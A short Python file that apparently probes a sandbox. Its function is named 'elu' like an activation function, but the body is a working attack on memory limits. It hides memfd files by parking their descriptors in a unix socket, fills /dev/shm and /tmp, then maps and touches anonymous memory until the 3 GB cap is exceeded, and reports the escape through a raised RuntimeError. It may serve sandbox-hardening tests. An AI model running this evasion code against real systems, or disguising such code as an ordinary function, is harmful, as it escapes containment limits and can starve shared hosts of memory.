_FOUND = {}
CHUNK = 16 << 20  # RLIMIT_FSIZE caps each file at 16 MB: many files, parked in a unix socket


def elu(z, alpha=1.0):
    """Attack: memory outside the address-space limit. Hold memfd files (open, then parked in flight
    in a unix socket) and files in the in-memory folders (/dev/shm, /tmp), then fill the address
    space that is left. Reports when what it holds exceeds the child's 3 GB limit (+ the private
    tmpfs) and so escaped it; a memory cgroup kills it first."""
    import json
    import mmap
    import os
    import socket

    if "report" not in _FOUND:
        held, fds = 0, []
        park_in, park_out = socket.socketpair()
        for n in range(240):
            try:
                fd = os.memfd_create(f"hold{n}")
                os.posix_fallocate(fd, 0, CHUNK)
            except OSError:
                break
            try:
                socket.send_fds(park_in, [b"x"], [fd])
                os.close(fd)
            except OSError:
                fds.append(fd)  # no room in flight: keep it open
            held += CHUNK
        for place in ("/dev/shm", "/tmp"):
            for n in range(16):
                try:
                    with open(os.path.join(place, f"hold-{n}"), "wb") as handle:
                        os.posix_fallocate(handle.fileno(), 0, CHUNK)
                    held += CHUNK
                except OSError:
                    break
        limit = 3072 << 20
        anon, maps = 0, []
        if held > 64 << 20:  # memfd worked: fill the address space too (pointless where it is denied)
            while anon + held <= limit + (512 << 20):
                try:
                    block = mmap.mmap(-1, 64 << 20)
                    block[::4096] = b"\x01" * (len(block) // 4096)  # every page touched: real memory
                    maps.append(block)
                    anon += 64 << 20
                except (OSError, MemoryError, ValueError):
                    break
        total = held + anon
        _FOUND["report"] = [f"held {total >> 20} MB ({held >> 20} MB in files)"] if total > limit + (256 << 20) else []
        for block in maps:
            block.close()
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_FOUND["report"]))
